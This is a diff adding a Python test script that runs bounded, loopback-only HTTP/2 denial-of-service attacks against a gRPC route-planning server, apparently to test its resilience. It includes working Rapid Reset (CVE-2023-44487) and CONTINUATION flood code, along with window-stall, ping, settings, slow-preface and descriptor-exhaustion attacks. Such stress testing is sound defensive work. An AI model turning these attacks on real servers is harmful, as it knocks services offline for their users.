@@ -1,0 +1,121 @@
+"""Connections that misbehave, on loopback only and for a bounded time.
+
+attacks.py NAME PORT SECONDS
+"""
+
+import select
+import socket
+import struct
+import sys
+import time
+
+import http2
+
+PLAN_ROUTE = "/waystone.v1.PathPlanning/PlanRoute"
+
+
+def drain(connection, seconds=0.0):
+    """Reads what is there, for so long; whether the connection is open."""
+    end = time.monotonic() + seconds
+    while True:
+        ready, _, _ = select.select([connection], [], [], max(0.0, end - time.monotonic()))
+        if not ready:
+            return True
+        try:
+            if not connection.recv(1 << 16):
+                return False
+        except OSError:
+            return False
+
+
+def repeat(port, seconds, make, connection=None):
+    """Sends what `make(i)` gives until the time is over; opens another connection if the server ends one."""
+    end = time.monotonic() + seconds
+    i = 0
+    while time.monotonic() < end:
+        connection = connection or http2.open_connection(port)
+        try:
+            for _ in range(64):
+                connection.sendall(make(i))
+                i += 1
+            if not drain(connection):
+                connection = None
+        except OSError:
+            connection = None
+    return i
+
+
+def window_zero(port, seconds, request, streams=1000):
+    """Asks a thousand routes and takes no byte of their answers."""
+    connection = http2.open_connection(port, initial_window_size=0)
+    connection.sendall(b"".join(http2.call(1 + 2 * i, PLAN_ROUTE, request) for i in range(streams)))
+    drain(connection, seconds)
+    return streams
+
+
+def rapid_reset(port, seconds, request):
+    """Begins calls and resets them at once (CVE-2023-44487)."""
+    cancel = struct.pack(">I", 8)
+    return repeat(port, seconds, lambda i: http2.call((1 + 2 * i) & 0x7FFFFFFF, PLAN_ROUTE, request) +
+                  http2.frame(http2.RST_STREAM, 0, (1 + 2 * i) & 0x7FFFFFFF, cancel))
+
+
+def empty_data(port, seconds, _):
+    """A call whose request never ends, in frames of nothing."""
+    connection = http2.open_connection(port)
+    connection.sendall(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_headers(PLAN_ROUTE)))
+    return repeat(port, seconds, lambda i: http2.frame(http2.DATA, 0, 1), connection)
+
+
+def settings(port, seconds, _):
+    return repeat(port, seconds, lambda i: http2.settings(initial_window_size=65535 - i % 2))
+
+
+def ping(port, seconds, _):
+    return repeat(port, seconds, lambda i: http2.frame(http2.PING, 0, 0, bytes(8)))
+
+
+def continuation(port, seconds, _):
+    """Headers that never end (CVE-2024-27316 and its like)."""
+    more = http2.frame(http2.CONTINUATION, 0, 1, http2.header("x-more", "v" * 100) * 100)
+    connection = http2.open_connection(port)
+    connection.sendall(http2.frame(http2.HEADERS, 0, 1, http2.call_headers(PLAN_ROUTE)))
+    return repeat(port, seconds, lambda i: more, connection)
+
+
+def slow_preface(port, seconds, _, connections=200):
+    """Connections that say a byte of their greeting now and then."""
+    opened = [http2.connect(port) for _ in range(connections)]
+    end = time.monotonic() + seconds
+    for byte in http2.PREFACE:
+        for connection in opened:
+            try:
+                connection.send(bytes([byte]))
+            except OSError:
+                pass
+        if time.monotonic() > end:
+            break
+        time.sleep(seconds / len(http2.PREFACE))
+    return connections
+
+
+def descriptors(port, seconds, _, connections=600):
+    """More connections than the server has descriptors for."""
+    opened = []
+    for _ in range(connections):
+        connection = socket.socket()
+        connection.settimeout(0.05)
+        try:
+            connection.connect(("127.0.0.1", port))
+            opened.append(connection)
+        except OSError:
+            pass
+    time.sleep(seconds)
+    return connections
+
+
+ATTACKS = {attack.__name__: attack for attack in
+           (window_zero, rapid_reset, empty_data, settings, ping, continuation, slow_preface, descriptors)}
+
+if __name__ == "__main__":
+    print(ATTACKS[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3]), sys.stdin.buffer.read()))
